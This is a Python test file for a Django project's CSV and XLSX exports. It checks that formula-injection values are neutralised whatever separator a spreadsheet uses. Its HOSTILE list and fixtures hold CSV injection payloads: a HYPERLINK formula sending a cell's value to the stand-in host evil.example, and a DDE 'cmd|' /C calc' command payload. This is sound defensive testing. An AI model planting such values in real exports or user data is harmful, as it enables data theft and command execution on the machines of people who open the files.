"""Formulas through the separator (issue 19, item 6).

`neutralise()` used to look only at the start of a value: a device model `A52;=2+5;` was written unquoted in the
comma export, and a spreadsheet reading it with `;` (French Excel's separator) got a `=2+5` cell; the same with `,`
when the file was written with `;`. Every CSV Bagage writes is read back here with `,`, `;` and tab as the separator
(Python's csv module, as a spreadsheet splits it), and no cell may be one a spreadsheet would run.
"""

import csv
import io
import re

import openpyxl
import pytest

from common.exports import csv_chunks, neutralise_text
from tests.conftest import ApiClient
from tests.distribution.conftest import world  # noqa: F401 (a fixture)
from tests.factories import DeviceFactory, SiteFactory, UserFactory
from tests.referrals.conftest import referral_payload

pytestmark = pytest.mark.django_db

READ_WITH = {"comma": ",", "semicolon": ";", "tab": "\t"}
WRITE_WITH = {",": ",", ";": ";", "tab": "\t"}

# What attackers plant: a formula after each separator, behind spaces, quotes, tabs and line breaks.
HOSTILE = [
    "A52;=2+5;",
    "A52,=2+5,",
    "A52\t=2+5",
    'Kaci;=HYPERLINK("http://evil.example/?"&A1;"clic")',
    "Kaci, @SUM(1+1)*cmd|' /C calc'!A0",
    'x;"=1+1";y',
    "x;\t=1+1",
    "x,\t\t+1+1",
    "line\n-2+3",
    "line\r\n@A1",
    "=1+1",
    " -1+2",
]

PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def runnable(cell: str) -> bool:
    """A cell a spreadsheet would run: after the blanks and quotes it may skip, it starts with `=`, `+`, `-` or `@`
    and is not a plain number; or it starts with a tab or a carriage return before such a start."""
    stripped = cell.lstrip(' \t\r\n"')
    return stripped.startswith(("=", "+", "-", "@")) and not PLAIN_NUMBER.fullmatch(stripped)


def runnable_cells(text: str) -> list[tuple[str, bool, str]]:
    """Every runnable cell of `text` read with each separator, with and without skipping initial spaces."""
    found = []
    for name, delimiter in READ_WITH.items():
        for skip in (False, True):
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, skipinitialspace=skip):
                found += [(name, skip, cell) for cell in row if runnable(cell)]
    return found


def body(response) -> str:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode("utf-8-sig")


def test_the_checker_finds_the_attack_in_an_unneutralised_file():
    """The test's own reader is no formality: the old writing (quote at the start only) is caught."""
    out = io.StringIO()
    csv.writer(out).writerow(["SDTE26-0001", "A52;=2+5;"])
    assert ("semicolon", False, "=2+5") in runnable_cells(out.getvalue())


@pytest.mark.parametrize("sep", list(WRITE_WITH.values()))
def test_no_reading_of_a_written_file_runs_a_formula(sep):
    text = b"".join(csv_chunks(["asset_tag", "model"], [[f"T{i}", value] for i, value in enumerate(HOSTILE)], sep))
    assert runnable_cells(text.decode("utf-8-sig")) == []
    # Read with the separator it was written with, each value is still there, a quote added where a cell could start.
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"), newline=""), delimiter=sep))[1:]
    assert [row[1].replace("'", "") for row in rows] == [value.replace("'", "") for value in HOSTILE]


def test_plain_values_and_numbers_are_written_as_they_are():
    for value in ("Galaxy A52, 128 Go", "Mo-Fr 09:30-12:30,14:00-17:00; Sa 10:00-12:00"):
        assert neutralise_text(value) == value
    for value in ("+33320551234", "-3", "10,50"):  # the open-data file's phone numbers
        assert neutralise_text(value, keep_numbers=True) == value
    assert neutralise_text("+33320551234") == "'+33320551234"
    assert neutralise_text("A52;=2+5;") == "A52;'=2+5;"


@pytest.mark.parametrize("sep", list(WRITE_WITH))
def test_a_device_model_cannot_plant_a_formula_in_the_device_export(warehouse_api, sep):
    for i, value in enumerate(HOSTILE):
        DeviceFactory(asset_tag=f"SDTE26-{i + 1:04d}", model=value, location=value[::-1][:40])
    text = body(warehouse_api.get("exports/devices.csv", {"sep": sep}))
    assert "=2+5" in text
    assert runnable_cells(text) == []


@pytest.mark.parametrize("sep", list(WRITE_WITH))
def test_a_name_planted_by_a_social_worker_runs_nothing_in_the_coordinators_export(coordinator_api, sep):
    SiteFactory(code="SD")
    social_worker = ApiClient(UserFactory(social_worker=True))
    for i, value in enumerate(HOSTILE[:6]):
        planted = {"first_name": value, "last_name": f"Kaci{value}", "accessibility_needs": value}
        response = social_worker.post("referrals", referral_payload(beneficiary=planted, reason="administrative"))
        assert response.status_code == 201, (i, response.json())
    for names in ("0", "1"):
        text = body(coordinator_api.get("exports/referrals.csv", {"sep": sep, "names": names}))
        if names == "1":
            assert "HYPERLINK" in text
        assert runnable_cells(text) == []


@pytest.mark.parametrize("sep", list(WRITE_WITH))
def test_an_organisation_name_runs_nothing_in_the_handovers_export(world, sep):  # noqa: F811
    world["organisation"].name = "CCAS;=2+5;@SUM(A1)"
    world["organisation"].save()
    allocation = world["api"].post("allocations", {"referral": world["referral"].pk}).json()
    handover = {
        "checklist": {"device_starts": True, "sim_tested": True, "email_account": False, "first_steps_session": True},
        "contribution_eur": "5.00",
        "payment": "cash",
        "accessories": [],
        "signed_on_paper": True,
    }
    assert world["api"].post(f"allocations/{allocation['id']}/handover", handover).status_code == 201
    text = body(world["api"].get("exports/handovers.csv", {"sep": sep}))
    assert "=2+5" in text
    assert runnable_cells(text) == []


def test_the_public_open_data_file_runs_nothing(anon_api):
    SiteFactory(
        code="LI",
        name="Lille;=2+5",
        address='12 rue de Paris,=HYPERLINK("http://evil.example")',
        postal_code="59000",
        city="Lille",
        phone="+33320551234",
        opening_hours="Mo-Fr 09:30-12:30\t=1+1",
        description="@SUM(1+1)",
    )
    text = body(anon_api.get("sites/lieux-mediation-numerique.csv"))
    assert "HYPERLINK" in text and "+33320551234" in text
    assert runnable_cells(text) == []


def test_xlsx_cells_are_text_without_a_visible_quote(warehouse_api):
    DeviceFactory(asset_tag="SDTE26-0001", model="A52;=2+5;", brand="=HYPERLINK(1)", location="@SUM(A1)")
    response = warehouse_api.get("exports/devices.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
    headers = [cell.value for cell in sheet[1]]
    row = {header: cell for header, cell in zip(headers, sheet[2], strict=True)}
    assert row["model"].value == "A52;=2+5;" and row["model"].data_type == "s"
    assert row["brand"].value == "=HYPERLINK(1)" and row["brand"].data_type == "s"
    assert row["brand"].quotePrefix  # Excel keeps it text when the cell is edited; the mark is not shown
    assert row["location"].value == "@SUM(A1)" and row["location"].data_type == "s"
